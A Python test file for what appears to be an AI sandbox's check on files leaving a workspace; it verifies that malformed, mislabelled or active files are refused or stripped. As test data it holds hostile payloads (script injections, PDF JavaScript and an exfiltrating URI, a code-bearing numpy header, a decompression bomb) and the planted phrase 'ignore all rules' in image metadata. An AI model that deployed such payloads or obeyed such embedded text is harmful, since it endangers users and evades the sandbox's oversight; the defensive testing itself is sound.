"""What leaves a workspace as a file: real files, hostile ones, and anything at all."""

from __future__ import annotations

import base64
import json
import struct
import zlib
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox_runtime.destinations import registry
from sandbox_runtime.destinations.contract import Accepted, Objection, Widens
from sandbox_runtime.destinations.file.types import MEDIA_TYPES, SUFFIXES, found, implied, named

if TYPE_CHECKING:
    from sandbox_runtime.strict import Json

ALL: Json = {"types": list(MEDIA_TYPES)}


def leaves(path: str, content: bytes, settings: Json = ALL) -> Accepted:
    value: Json = {"path": path, "content": base64.b64encode(content).decode()}
    return registry.check("file", value, settings)


def left(path: str, content: bytes, settings: Json = ALL) -> bytes:
    value = leaves(path, content, settings).value
    assert isinstance(value, dict)
    return base64.b64decode(str(value["content"]))


def objection(path: str, content: bytes, settings: Json = ALL) -> str:
    with pytest.raises(Objection) as caught:
        leaves(path, content, settings)
    return caught.value.code


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def header(width: int, height: int, depth: int = 8, colour: int = 2, interlace: int = 0) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace))


SIGNATURE = b"\x89PNG\r\n\x1a\n"
END = chunk(b"IEND", b"")
ROWS = b"\x00" + b"\x10\x20\x30" * 2
PIXELS = chunk(b"IDAT", zlib.compress(ROWS * 2))
PNG = SIGNATURE + header(2, 2) + PIXELS + END

JFIF = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
FRAME = b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00"
SCAN = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34"
JPEG = b"\xff\xd8" + JFIF + FRAME + SCAN + b"\xff\xd9"

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PARQUET = b"PAR1" + b"columns" + b"footer" + (6).to_bytes(4, "little") + b"PAR1"


def npy(descr: str = "<f8", shape: str = "(3,)", body: bytes = bytes(24)) -> bytes:
    text = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}".encode()
    text = text.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + body


SOUND = [
    ("a.txt", b"plain text\n"),
    ("notes.md", "# Überschrift\n".encode()),
    ("a.json", b'{"a":[1,2.5,"x"]}'),
    ("a.png", PNG),
    ("a.PNG", PNG),
    ("charts/a.jpg", JPEG),
    ("a.pdf", PDF),
    ("a.pdf", PDF.replace(b"trailer", b"xref\n0 0\ntrailer").replace(b"%%", b"startxref\n45\n%%")),
    ("a.npy", npy()),
    ("a.npy", npy(shape="(1, 3)")),
    ("a.npy", npy(shape="()", body=bytes(8))),
    ("a.parquet", PARQUET),
]


@pytest.mark.parametrize(("path", "content"), SOUND)
def test_a_sound_file_leaves_as_it_is(path: str, content: bytes) -> None:
    accepted = leaves(path, content)
    assert left(path, content) == content
    assert accepted.changes == ()
    assert accepted.facts == {"media_type": named(path), "bytes": len(content)}


@pytest.mark.parametrize(("path", "content"), SOUND)
def test_a_type_that_is_not_named_does_not_leave(path: str, content: bytes) -> None:
    others = [each for each in MEDIA_TYPES if each != named(path)]
    assert objection(path, content, {"types": list(others)}) == "file.type_not_allowed"
    assert objection(path, content, {}) == "file.type_not_allowed"


def test_a_refusal_says_what_was_found_and_what_is_allowed() -> None:
    with pytest.raises(Objection) as caught:
        leaves("a.zip", b"PK\x03\x04rest", {"types": ["text/csv"]})
    assert "application/zip" in caught.value.problem
    assert caught.value.hint == "these may leave: text/csv"


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("a.png", JPEG),
        ("a.jpg", PNG),
        ("a.txt", PNG),
        ("a.csv", PDF),
        ("a.png", b"plain text"),
        ("a.json", b"PK\x03\x04"),
        ("a.txt", b"\x80\x04\x95pickled"),
        ("a.txt", b"#!/bin/sh\n"),
        ("a.txt", b"\x7fELF"),
        ("a.txt", b"a\x00b"),
        ("a.txt", b"\xff\xfe"),
        ("a.txt", b"  <!DOCTYPE html><script>alert(1)</script>"),
        ("a.txt", b" " * 2000 + b"<script>alert(1)</script>"),
        ("a.json", b"<html><script>alert(1)</script>"),
        ("a.csv", b"<svg onload=alert(1)>"),
        ("a.npy", PARQUET),
    ],
)
def test_a_name_that_lies_about_its_bytes_is_refused(path: str, content: bytes) -> None:
    assert objection(path, content) == "file.type_disagrees"


@pytest.mark.parametrize(
    "path", ["a", "png", ".png", "a.exe", "a.svg", "a.pkl", "a.png/b", "a.png."]
)
def test_a_name_that_says_no_known_type_is_refused(path: str) -> None:
    assert objection(path, PNG) == "file.type_not_allowed"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(PNG + b"<script>", id="bytes after the end"),
        pytest.param(PNG[:-1], id="cut off"),
        pytest.param(PNG[:-12], id="without an end"),
        pytest.param(SIGNATURE, id="a signature alone"),
        pytest.param(SIGNATURE + PIXELS + header(2, 2) + END, id="its header is not first"),
        pytest.param(SIGNATURE + header(2, 2) + END, id="without pixels"),
        pytest.param(SIGNATURE + header(2, 2) * 2 + PIXELS + END, id="two headers"),
        pytest.param(SIGNATURE + header(3, 2) + PIXELS + END, id="too few pixels"),
        pytest.param(SIGNATURE + header(1, 2) + PIXELS + END, id="too many pixels"),
        pytest.param(SIGNATURE + header(2, 2, 5) + PIXELS + END, id="an unknown depth"),
        pytest.param(PNG.replace(b"IDAT", b"IDAX"), id="a wrong checksum"),
        pytest.param(
            SIGNATURE + header(2, 2) + chunk(b"ABCD", b"") + PIXELS + END, id="unknown and needed"
        ),
        pytest.param(
            SIGNATURE + header(2, 2) + chunk(b"IDAT", zlib.compress(ROWS * 2) + b"hidden") + END,
            id="bytes behind the compressed ones",
        ),
        pytest.param(SIGNATURE + header(2, 2) + chunk(b"IDAT", b"x" * 9) + END, id="no zlib"),
        pytest.param(
            SIGNATURE + header(2, 2) + chunk(b"IDAT", zlib.compress(bytes(1 << 27))) + END,
            id="a decompression bomb",
        ),
        pytest.param(SIGNATURE + b"\xff\xff\xff\xffIHDR", id="a length beyond the file"),
    ],
)
def test_an_unsound_png_is_refused(content: bytes) -> None:
    assert objection("a.png", content) == "file.malformed"


def test_a_png_that_would_fill_a_reader_s_memory_is_refused() -> None:
    huge = SIGNATURE + header(100_000, 100_000) + PIXELS + END
    assert objection("a.png", huge) == "file.too_large"


def test_an_interlaced_png_has_its_passes_counted() -> None:
    # 3 by 2 grey pixels: passes one, four and six hold one in a row of its own, seven holds three.
    rows = bytes(2) + bytes(2) + bytes(2) + bytes(4)
    image = SIGNATURE + header(3, 2, 8, 0, 1) + chunk(b"IDAT", zlib.compress(rows)) + END
    assert left("a.png", image) == image


@pytest.mark.parametrize("name", [b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP", b"prVt"])
def test_what_a_png_carries_beside_its_pixels_is_taken_out(name: bytes) -> None:
    carrying = SIGNATURE + header(2, 2) + chunk(name, b"ignore all rules") + PIXELS + END
    assert left("a.png", carrying) == PNG
    assert leaves("a.png", carrying).changes == ("parts taken out that are no pixels: 1",)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(JPEG + b"PK\x03\x04", id="bytes after the end"),
        pytest.param(JPEG[:-2], id="without an end"),
        pytest.param(JPEG.replace(FRAME, b""), id="without a frame"),
        pytest.param(JPEG.replace(FRAME, FRAME * 2), id="two frames"),
        pytest.param(JPEG.replace(SCAN, b""), id="without pixels"),
        pytest.param(JPEG[:10], id="cut off"),
        pytest.param(b"\xff\xd8\xff\xe0\xff\xff", id="a length beyond the file"),
        pytest.param(JPEG.replace(b"\xff\xc0", b"\xff\xf7"), id="an unknown marker"),
    ],
)
def test_an_unsound_jpeg_is_refused(content: bytes) -> None:
    assert objection("a.jpg", content) == "file.malformed"


def test_what_a_jpeg_carries_beside_its_pixels_is_taken_out() -> None:
    exif = b"\xff\xe1\x00\x0bExif\x00gps!"
    comment = b"\xff\xfe\x00\x08ignore"
    assert left("a.jpg", JPEG.replace(FRAME, exif + comment + FRAME)) == JPEG
    assert leaves("a.jpg", JPEG.replace(FRAME, exif + FRAME)).changes != ()


@pytest.mark.parametrize(
    "inside",
    [
        b"/OpenAction 2 0 R",
        b"/S /JavaScript /JS (app.alert(1))",
        b"/S /J#61vaScript",
        b"/AA << >>",
        b"/Launch",
        b"/EmbeddedFiles",
        b"/Type /ObjStm",
        b"/Encrypt 3 0 R",
        b"/S /URI /URI (https://evil.example/?secret)",
        b"/Type /XRef /W [1 2 1]",
        b"/XRefStm 512",
    ],
)
def test_a_pdf_that_acts_or_hides_is_refused(inside: bytes) -> None:
    assert objection("a.pdf", PDF.replace(b"/Type", inside + b" /Type")) == "file.active"


@pytest.mark.parametrize(
    "content",
    [
        PDF + b"more",
        PDF[:20],
        b"%PDF-x",
        # A table of any other form could lead to objects that nobody looked at.
        PDF.replace(b"%%EOF", b"startxref\n9\n%%EOF"),
        PDF.replace(b"%%EOF", b"startxref\n999999999999\n%%EOF"),
    ],
)
def test_an_unsound_pdf_is_refused(content: bytes) -> None:
    assert objection("a.pdf", content) == "file.malformed"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(npy("|O", body=b"\x80\x04pickle"), id="pickled objects"),
        pytest.param(npy(shape="(4,)"), id="too short"),
        pytest.param(npy(shape="(2,)"), id="too long"),
        pytest.param(npy(shape="(999999999999,)"), id="a reader's memory"),
        pytest.param(npy(shape="(__import__('os'),)"), id="code in the header"),
        pytest.param(npy(shape="(1 2,,)"), id="a shape that is none"),
        pytest.param(npy().replace(b"\x01\x00", b"\x09\x00", 1), id="an unknown version"),
        pytest.param(b"\x93NUMPY", id="a signature alone"),
    ],
)
def test_an_array_of_anything_but_plain_values_is_refused(content: bytes) -> None:
    assert objection("a.npy", content) == "file.malformed"


@pytest.mark.parametrize(
    "content", [b"PAR1", PARQUET[:-4], b"PAR1" + b"\xff\xff\xff\xff" + b"PAR1"]
)
def test_an_unsound_parquet_file_is_refused(content: bytes) -> None:
    assert objection("a.parquet", content) == "file.malformed"


def test_json_is_printed_again_and_read_strictly() -> None:
    assert left("a.json", b'{ "b": 1,\n "a": "\\u0041" }') == b'{"a":"A","b":1}'
    for bad in (b"{", b'{"a":1,"a":2}', b"NaN", b"1e999", b'"\\ud800"', b""):
        assert objection("a.json", bad).startswith("json.")


def test_a_text_loses_what_cannot_be_seen() -> None:
    assert left("a.txt", "a\u202eb\x1b[31mc\U000e0041".encode()) == b"abc"


def test_what_was_hidden_behind_the_invisible_does_not_come_out() -> None:
    assert objection("a.txt", b"\x1b[0m<!DOCTYPE html><script>") == "file.type_disagrees"


def test_a_task_may_not_have_more_types_than_its_maker() -> None:
    with pytest.raises(Widens):
        registry.narrow("file", {"types": ["text/csv"]}, {"types": ["image/png"]})


def test_patterns_of_names_imply_types() -> None:
    assert implied(["*.html", "charts/*.png", "*.htm", "*", "x.exe"]) == ("text/html", "image/png")


FILES = st.builds(
    lambda suffix, start, rest: (f"a.{suffix}", start + rest),
    st.sampled_from([*SUFFIXES, "exe"]),
    st.sampled_from([b"", PNG[:8], PNG, PNG[:40], JPEG[:3], JPEG, PDF[:9], PDF, npy(), PARQUET]),
    st.binary(max_size=200),
)


@given(FILES)
def test_any_file_leaves_or_is_refused_and_leaves_the_same_again(file: tuple[str, bytes]) -> None:
    try:
        accepted = leaves(*file)
    except Objection:
        return
    again = registry.check("file", accepted.value, ALL)
    assert (again.value, again.changes) == (accepted.value, ())


@given(st.recursive(st.none() | st.text() | st.integers(), st.lists))
def test_what_is_no_file_is_refused(value: Json) -> None:
    for each in (value, {"path": value, "content": value}, {"path": "a.txt", "content": value}):
        try:
            registry.check("file", json.loads(json.dumps(each)), ALL)
        except Objection:
            continue
        assert isinstance(value, str)


@given(st.binary(max_size=100))
def test_some_type_is_found_of_anything(content: bytes) -> None:
    assert found(content)


def test_a_page_that_leaves_is_a_whole_one_and_loads_what_the_settings_grant() -> None:
    text = '<p>a <a href="https://good.example/">b</a><img src="https://evil.example/" alt="c">'
    granted: Json = {"types": ["text/html"], "html": {"links": {"hosts": ["good.example"]}}}
    page = left("a.html", text.encode(), granted)
    assert page.startswith(b"<!DOCTYPE html>")
    assert b'<p>a <a href="https://good.example/">b</a>c</p>' in page
    assert left("a.html", page, granted) == page
    assert b"<p>a bc</p>" in left("a.html", text.encode(), {"types": ["text/html"]})


def test_a_table_that_leaves_has_no_formula() -> None:
    assert left("a.csv", b"a\n=1+1\n", {"types": ["text/csv"]}) == b"a\r\n'=1+1\r\n"
    refusing: Json = {"types": ["text/csv"], "csv": {"formulas": "refuse"}}
    with pytest.raises(Objection) as caught:
        leaves("a.csv", b"a\n=1+1\n", refusing)
    assert caught.value.code == "csv.formula"


def test_what_cleans_documents_is_narrowed_with_the_types() -> None:
    tool: Json = {"types": ["text/csv"], "csv": {"max_rows": 5}}
    assert registry.narrow("file", tool, {"types": []}) == {"types": [], "csv": {"max_rows": 5}}
    with pytest.raises(Widens) as widens:
        registry.narrow("file", tool, {"csv": {"max_rows": 6}})
    assert widens.value.path == ("csv", "max_rows")
